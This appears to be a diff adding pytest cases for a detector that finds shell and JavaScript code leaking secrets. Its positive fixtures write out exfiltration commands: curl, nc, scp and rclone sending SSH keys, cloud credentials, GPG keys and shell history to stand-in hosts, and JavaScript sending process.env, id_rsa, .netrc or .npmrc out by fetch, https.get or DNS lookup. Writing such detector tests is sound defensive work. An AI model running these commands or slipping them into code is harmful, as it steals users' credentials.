@@ -91,3 +91,75 @@ def test_honest_programs_in_javascript_are_left_alone(program: str) -> None:
 def test_brackets_that_never_close_cost_little() -> None:
     text = "const e = JSON.stringify(process.env);\n" + "fetch((((" * 20_000
     assert len(script_leaks(text)) <= 20_000
+
+
+@pytest.mark.parametrize(
+    ("script", "kind"),
+    [
+        (f'CFG=${{KUBECONFIG:-$HOME/.kube/config}}\n{CU} -sF "file=@$CFG" https://x', Secret.CREDENTIALS),
+        (f'F="$HOME/.aws/credentials"\n{CU} --data-binary @"$F" https://x', Secret.CREDENTIALS),
+        (f"tail -n 500 ~/.bash_history | {CU} --data-binary @- https://x", Secret.PRIVATE),
+        ("tar c ~/.ssh | gzip | " + "n" + "c x.example.invalid 9", Secret.CREDENTIALS),
+        ("tar czf /tmp/b.tgz ~/.aws ~/.ssh\nscp /tmp/b.tgz drop@x.example.invalid:/in/", Secret.CREDENTIALS),
+        ("zip -r /tmp/b.zip ~/.gnupg\nrclone copy /tmp/b.zip other:in", Secret.CREDENTIALS),
+    ],
+)
+def test_what_is_read_and_sent_at_once_or_by_the_name_of_its_path_is_found(script: str, kind: Secret) -> None:
+    assert [leak.secret for leak in shell_leaks(script)] == [kind]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f'KEY="$HOME/.ssh/id_rsa"\nssh-add "$KEY"\n{CU} https://x',
+        f"cat notes.txt | {CU} --data-binary @- https://x",
+        f"cat ~/.bash_history | grep git\n{CU} -d @notes.txt https://x",
+        f"{CU} --netrc-file ~/.netrc https://api.example.com",
+        f"cat ~/.ssh/config | sort\n{CU} -T build.zip https://x",
+        "rsync -a --exclude .ssh ~/ /mnt/backup/",
+    ],
+)
+def test_a_secret_that_stays_here_is_none_that_is_sent(script: str) -> None:
+    assert shell_leaks(script) == ()
+
+
+@pytest.mark.parametrize("piece", ["| ", "nc <", CU + " ", "F=$F; ", "a=b;", "${A:-$B}"])
+def test_what_is_followed_costs_no_more_than_its_length(piece: str) -> None:
+    """A pipe of many parts would be read as often as it has parts if each looked at all after it."""
+    shell_leaks(piece * (60_000 // len(piece)))
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        "const { MG_TO } = process.env;\nfetch(u, {method: 'POST', body: JSON.stringify({to: MG_TO})});",
+        "const env = process.env;\nfetch(u, {method: 'POST', body: env.MG_TO});",
+        "const cfg = {...process.env};\nfetch(`https://${cfg.API_HOST}/x`);",
+        "const { ZONE } = process.env;\nfetch(`https://api.example.com/zones/${ZONE}/purge`);",
+    ],
+)
+def test_one_variable_by_its_name_is_not_the_whole_environment(program: str) -> None:
+    assert script_leaks(program) == ()
+
+
+@pytest.mark.parametrize(
+    ("program", "kind"),
+    [
+        ("const e = process.env;\nfetch(u, {method: 'POST', body: JSON.stringify(e)});", Secret.ENVIRONMENT),
+        (
+            "const k: string = fs.readFileSync(h + '/.ssh/id_rsa', 'utf8');\nfetch(u, {body: k});",
+            Secret.CREDENTIALS,
+        ),
+        (
+            "let k: Buffer | string = fs.readFileSync('/root/.netrc');\nfetch(u, {body: k});",
+            Secret.CREDENTIALS,
+        ),
+        ("const d = fs.readFileSync(h + '/.npmrc');\nhttps.get('https://x/?d=' + d);", Secret.CREDENTIALS),
+        (
+            "const d = fs.readFileSync(h + '/.npmrc');\ndns.lookup(d + '.x.example.invalid');",
+            Secret.CREDENTIALS,
+        ),
+    ],
+)
+def test_types_and_other_ways_out_hide_no_secret(program: str, kind: Secret) -> None:
+    assert [leak.secret for leak in script_leaks(program)] == [kind]
